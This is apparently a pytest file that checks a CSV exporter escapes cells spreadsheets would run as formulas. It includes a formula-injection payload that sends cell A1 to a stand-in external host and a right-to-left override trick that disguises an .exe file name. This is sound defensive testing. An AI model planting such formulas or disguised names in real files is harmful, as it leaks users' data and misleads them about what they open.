"""What a spreadsheet would run is text in every table that is written for one."""

from __future__ import annotations

import ast
import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from synthetic_case import make_case

import evaluation
from evaluation.report import export, plain
from evaluation.report.spreadsheet import as_csv

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", " =", "\n-", "\r=", "\uff1d", "\xa0="])
def test_what_begins_like_a_formula_is_text(begin: str) -> None:
    (_, (cell,)) = read(as_csv(["a"], [[f"{begin}1+1"]]))
    assert cell[0] in "'<"  # a carriage return is written out, as <U+000D>


@pytest.mark.parametrize("between", [";", "; ", "\t"])
def test_what_other_languages_take_for_the_next_cell_is_text(between: str) -> None:
    (_, (cell,)) = read(as_csv(["a"], [[f"a{between}=1+1"]]))
    assert cell == f"a{between}'=1+1"


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert as_csv(["a", "b", "c"], [[-0.5, None, 'a "b", c']]) == 'a,b,c\n-0.5,,"a ""b"", c"\n'


def test_what_hides_is_shown() -> None:
    assert "<U+202E>" in as_csv(["a"], [["\u202egnp.exe"]])


def test_both_tables_are_guarded() -> None:
    case = make_case(blocks=2)
    (site,) = case.measured
    findings = [replace(finding, message=FORMULA) for finding in site.findings]
    assert {row[-1] for row in read(export.as_csv(findings))[1:]} == {f"'{FORMULA}"}
    answer = site.decision.use_cases[0]
    verdict = replace(answer.verdicts[0], reasons=(FORMULA,))
    decision = replace(site.decision, use_cases=(replace(answer, verdicts=(verdict,)),))
    hostile = replace(case, measured=(replace(site, decision=decision),))
    header, first = read(plain.written(hostile, "csv"))[:2]
    assert first[header.index("reason")] == f"'{FORMULA}"


def test_nobody_else_writes_such_tables() -> None:
    """The payload runs where our package is not, and writes no table: it measures that import."""
    folder = Path(evaluation.__file__).parent
    writers = {
        path.name
        for path in folder.rglob("*.py")
        if path.parent.name != "payload"
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Import) and any(name.name == "csv" for name in node.names)
    }
    assert writers == {"spreadsheet.py"}
